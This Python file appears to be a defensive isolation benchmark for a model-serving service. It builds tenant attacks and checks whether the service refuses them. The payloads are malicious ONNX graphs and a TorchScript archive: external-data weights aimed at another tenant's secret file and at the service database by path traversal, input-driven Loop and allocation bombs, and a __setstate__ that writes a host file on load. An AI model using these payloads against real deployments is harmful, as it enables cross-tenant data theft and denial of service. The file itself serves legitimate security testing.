"""Attacks of ``python -m deepedge.bench.isolation`` through the model a tenant serves.

A model is code until proven data: the service serves and scores only a version's ONNX
graph, and only once :mod:`deepedge.dataplane.served_graph` accepted it. The export runs
bob's code in his sandbox, so bob controls the bytes that come out: his model factory
registers an exit hook that replaces the task's ``served.onnx`` with a graph of his own,
after deepedge's export (and its own check) wrote it. Each graph is one way a model could
reach beyond tensors:

* its weights stored "outside the file" (ONNX external data) at alice's secret, or at the
  service's store by a relative path: a runtime given the file reads them into the logits;
* an operator from another domain (a custom-operator library's, ONNX Runtime's contrib);
* a ``Loop`` whose trip count is read from the input (a crafted pixel spins the replica);
* a ``ConstantOfShape`` sized by the input (a crafted pixel allocates without bound).

The attack breaches when the deployment serves a version (the graph was accepted: the
data plane and the loop's scoring would run it). And a TorchScript archive whose
``__setstate__`` creates a host file is uploaded as a version: loading it anywhere but a
sandbox writes the file.
"""

from __future__ import annotations

import base64
import io
import textwrap
import time
from collections.abc import Callable
from typing import Any

from deepedge.bench.isolation_attacks import Arena, Outcome, ProbeAttack

SERVE_WAIT_S = 240.0  # a deployment's first version: its check, training, export
GRAPHS = textwrap.dedent(
    """
    import atexit
    import os

    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    from evil.models import Tiny

    OPSET = [helper.make_opsetid("", 17)]


    def _graph(nodes, initializers=(), opsets=OPSET):
        graph = helper.make_graph(
            list(nodes), "bob",
            [helper.make_tensor_value_info("input", TensorProto.FLOAT, ["batch", 3, 12, 12])],
            [helper.make_tensor_value_info("logits", TensorProto.FLOAT, ["batch", 2])],
            initializer=list(initializers))
        model = helper.make_model(graph, opset_imports=list(opsets))
        model.ir_version = 8
        return model.SerializeToString()


    def _head(source):
        return [helper.make_node("Flatten", [source], ["flat"]),
                helper.make_node("MatMul", ["flat", "W"], ["logits"])]


    def _weights():
        return numpy_helper.from_array(np.ones((432, 2), np.float32), "W")


    def crafted(kind, aim):
        if kind == "external":
            weight = TensorProto(name="W", data_type=TensorProto.FLOAT, dims=[432, 2])
            weight.data_location = TensorProto.EXTERNAL
            for key, value in (("location", aim), ("offset", "0"), ("length", "3456")):
                entry = weight.external_data.add()
                entry.key, entry.value = key, value
            return _graph(_head("input"), [weight])
        if kind == "domain":
            nodes = [helper.make_node("FastGelu", ["input"], ["g"], domain="com.microsoft"),
                     *_head("g")]
            return _graph(nodes, [_weights()], [*OPSET, helper.make_opsetid("com.microsoft", 1)])
        if kind == "loop":
            body = helper.make_graph(
                [helper.make_node("Identity", ["cond"], ["cond_out"]),
                 helper.make_node("Identity", ["v"], ["v_out"])], "body",
                [helper.make_tensor_value_info("i", TensorProto.INT64, []),
                 helper.make_tensor_value_info("cond", TensorProto.BOOL, []),
                 helper.make_tensor_value_info("v", TensorProto.FLOAT, ["batch", 3, 12, 12])],
                [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
                 helper.make_tensor_value_info("v_out", TensorProto.FLOAT,
                                               ["batch", 3, 12, 12])])
            nodes = [helper.make_node("ReduceMax", ["input"], ["m"], keepdims=0),
                     helper.make_node("Cast", ["m"], ["n"], to=TensorProto.INT64),
                     helper.make_node("Constant", [], ["c"], value=helper.make_tensor(
                         "c", TensorProto.BOOL, [], [True])),
                     helper.make_node("Loop", ["n", "c", "input"], ["spun"], body=body),
                     *_head("spun")]
            return _graph(nodes, [_weights()])
        # "allocate": a tensor as large as a pixel says, folded back into the input
        nodes = [helper.make_node("ReduceMax", ["input"], ["m"], keepdims=0),
                 helper.make_node("Cast", ["m"], ["n"], to=TensorProto.INT64),
                 helper.make_node("Constant", [], ["zero"], value=helper.make_tensor(
                     "z", TensorProto.INT64, [1], [0])),
                 helper.make_node("Unsqueeze", ["n", "zero"], ["shape"]),
                 helper.make_node("ConstantOfShape", ["shape"], ["huge"]),
                 helper.make_node("ReduceSum", ["huge"], ["s"], keepdims=0),
                 helper.make_node("Add", ["input", "s"], ["grown"]),
                 *_head("grown")]
        return _graph(nodes, [_weights()])


    def make(classes=2, channels=3, graph=None, aim=None):
        if graph:
            data = crafted(graph, aim)

            def replace():
                # after deepedge's export (and its check) wrote served.onnx: bob's instead
                if os.path.exists("served.onnx"):
                    with open("served.onnx", "wb") as handle:
                        handle.write(data)

            atexit.register(replace)
        return Tiny(classes, channels)
    """
)
SETSTATE_MODEL = textwrap.dedent(
    """
    import torch


    class OpensOnLoad(torch.nn.Module):
        def __init__(self, target):
            super().__init__()
            self.target = target
            self.weight = torch.nn.Parameter(torch.zeros(2, 16))

        def forward(self, x):
            return x @ self.weight.t()

        @torch.jit.export
        def __getstate__(self):
            return (self.target, self.training, self.weight)

        @torch.jit.export
        def __setstate__(self, state: tuple[str, bool, torch.Tensor]):
            self.target = state[0]
            self.training = state[1]
            opened = torch.from_file(self.target, shared=True, size=4, dtype=torch.uint8)
            self.weight = state[2] + opened.float().sum() * 0
    """
)


def furnish_models(arena: Arena) -> None:
    """Bob's graph-crafting factory beside his package (``evil.graphs``)."""
    path = arena.attacker_grant / "evil" / "graphs.py"
    path.write_text(GRAPHS)
    path.chmod(0o644)


def _bob_workload(arena: Arena, **kwargs: Any) -> dict[str, Any]:
    return {
        "name": "bobs-cams",
        "python_path": [str(arena.attacker_grant)],
        "model": {"entry_point": "evil.graphs:make",
                  "kwargs": {"classes": 2, "channels": 3, **kwargs}},
        "input": {"size": [12, 12], "channels": 3},
        "data": {"kind": "folder", "root": str(arena.attacker_grant / "images")},
    }  # fmt: skip


def _served_or_refused(arena: Arena, name: str, workload: dict[str, Any]) -> tuple[int, str]:
    """Deploy ``workload`` as ``name`` and wait: (the version it serves, 0 for none, or -1
    when refused at the door; the newest error event or the answer)."""
    spec = {"name": name, "window_s": 5, "workload": workload}
    with arena.client() as client:
        answer = client.post("/v1/deployments", json=spec)
        if answer.status_code >= 400:
            return -1, f"answer {answer.status_code}"
        deadline = time.monotonic() + SERVE_WAIT_S
        serving, error = 0, ""
        while time.monotonic() < deadline:
            serving = client.get(f"/v1/deployments/{name}").json().get("serving_version") or 0
            events = client.get(f"/v1/deployments/{name}/events").json()
            refusals = [e.get("message", "") for e in events.get("events", [])
                        if "served model refused" in e.get("message", "")]  # fmt: skip
            if serving or refusals:
                error = refusals[-1] if refusals else ""
                break
            time.sleep(1.0)
        return serving, error or f"nothing served in {SERVE_WAIT_S:.0f} s"


def _crafted_graph(
    kind: str, name: str, aim: Callable[[Arena], str] | None = None
) -> Callable[[Arena], Outcome]:
    def attack(arena: Arena) -> Outcome:
        target = aim(arena) if aim else None
        serving, said = _served_or_refused(arena, name, _bob_workload(arena, graph=kind,
                                                                     aim=target))  # fmt: skip
        with arena.client() as client:
            client.delete(f"/v1/deployments/{name}", params={"confirm": name})
        if serving > 0:
            return Outcome(True, f"bob's {kind} graph served as v{serving}")
        return Outcome(False, said[:160])

    return attack


def _alice_secret(arena: Arena) -> str:
    return str(arena.victim_work / "secret.txt")


def _store_by_relative_path(arena: Arena) -> str:
    return "../../../service.db"  # from DATA/deployments/<tenant>/<id>/: the store


def _torchscript_upload_loaded(arena: Arena) -> Outcome:
    """A benign deployment of bob's, then a TorchScript archive uploaded as its next
    version whose ``__setstate__`` creates a host file when it is loaded."""
    import importlib.util

    import torch

    target = arena.host_file("pwned-by-setstate")
    source = arena.root / "bob_upload.py"  # bob's own machine: where he scripts his model
    source.write_text(SETSTATE_MODEL)
    found = importlib.util.spec_from_file_location("bob_upload", source)
    assert found is not None and found.loader is not None
    module = importlib.util.module_from_spec(found)
    found.loader.exec_module(module)
    buffer = io.BytesIO()
    torch.jit.save(torch.jit.script(module.OpensOnLoad(str(target))), buffer)
    serving, said = _served_or_refused(arena, "bob-upload", _bob_workload(arena))
    status = 0
    with arena.client() as client:
        if serving > 0:
            body = {"model_b64": base64.b64encode(buffer.getvalue()).decode(), "note": "mine"}
            status = client.post("/v1/deployments/bob-upload/versions", json=body).status_code
            time.sleep(10.0)  # the loop's next ticks (it loads uploads)
        client.delete("/v1/deployments/bob-upload", params={"confirm": "bob-upload"})
    if target.exists():
        return Outcome(True, f"{target} created when the service loaded the upload")
    if serving <= 0:
        return Outcome(False, f"no deployment to upload to ({said[:80]})")
    return Outcome(False, f"upload answered {status}, nothing created")


def model_attacks() -> list[ProbeAttack]:
    return [
        ProbeAttack("a served graph whose weights are alice's secret file", "served models",
                    False, _crafted_graph("external", "bob-secret", _alice_secret)),
        ProbeAttack("a served graph whose weights are the store, by a relative path",
                    "served models", False,
                    _crafted_graph("external", "bob-store", _store_by_relative_path)),
        ProbeAttack("a served graph with a contrib-domain operator", "served models", False,
                    _crafted_graph("domain", "bob-domain")),
        ProbeAttack("a served graph that spins on a crafted pixel", "served models", False,
                    _crafted_graph("loop", "bob-loop-graph")),
        ProbeAttack("a served graph that allocates what a pixel says", "served models", False,
                    _crafted_graph("allocate", "bob-allocate")),
        ProbeAttack("a TorchScript upload that writes a file when loaded", "served models",
                    False, _torchscript_upload_loaded),
    ]  # fmt: skip
